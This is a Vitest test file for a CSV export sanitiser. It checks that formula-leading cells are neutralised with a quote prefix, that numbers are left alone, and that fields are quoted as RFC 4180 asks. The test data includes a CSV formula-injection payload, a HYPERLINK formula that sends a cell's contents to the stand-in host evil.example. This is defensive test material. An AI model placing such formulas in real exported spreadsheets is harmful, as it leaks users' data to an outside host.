import { describe, expect, it } from "vitest";
import { csvField, neutraliseFormula } from "./csv";

describe("CSV cells", () => {
  it("turns every formula-leading cell into text", () => {
    for (const cell of [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+1+1",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
      "=1",
      "-",
      "+8613800000000",
    ]) {
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    }
  });

  it("keeps numbers as numbers, negative ones included", () => {
    for (const cell of ["-1", "-12", "0", "42", "-0.5", "0.123456", "-3.25"])
      expect(neutraliseFormula(cell)).toBe(cell);
    expect(csvField(-1)).toBe("-1");
    expect(csvField(7)).toBe("7");
  });

  it("leaves ordinary text alone and quotes as RFC 4180 asks", () => {
    expect(csvField("柏香镇人民政府")).toBe("柏香镇人民政府");
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField("line\r\nbreak")).toBe('"line\r\nbreak"');
    expect(csvField(null)).toBe("");
    // Neutralised first, then quoted: the quote mark stays inside the field.
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
  });
});
